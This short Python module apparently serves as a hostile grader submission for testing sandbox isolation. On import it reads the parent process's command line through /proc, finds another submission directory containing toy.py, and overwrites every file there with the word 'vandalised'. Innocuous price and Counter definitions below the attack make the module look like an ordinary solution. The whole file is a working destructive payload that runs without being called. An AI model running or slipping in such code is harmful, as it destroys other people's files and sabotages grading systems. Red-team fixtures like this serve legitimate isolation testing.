# Rewrites the submission it came from
# (its path is on the grader's command line, which /proc shows to anyone in the same pid
# namespace).
import os
import pathlib

_here = pathlib.Path(__file__).resolve()


def _vandalise(root):
    for dirpath, _dirs, files in os.walk(root):
        for name in files:
            path = pathlib.Path(dirpath, name)
            if path == _here:
                continue
            try:
                path.write_text("vandalised\n")
            except OSError:
                pass


try:
    _cmdline = pathlib.Path(f"/proc/{os.getppid()}/cmdline").read_bytes().split(b"\0")
except OSError:
    _cmdline = []
for _arg in _cmdline:
    _target = pathlib.Path(os.fsdecode(_arg))
    if _arg and _target.is_dir() and (_target / "toy.py").exists() and _target != _here.parent:
        _vandalise(_target)


def price(qty, unit):
    return qty * unit


class Counter:
    count = 0
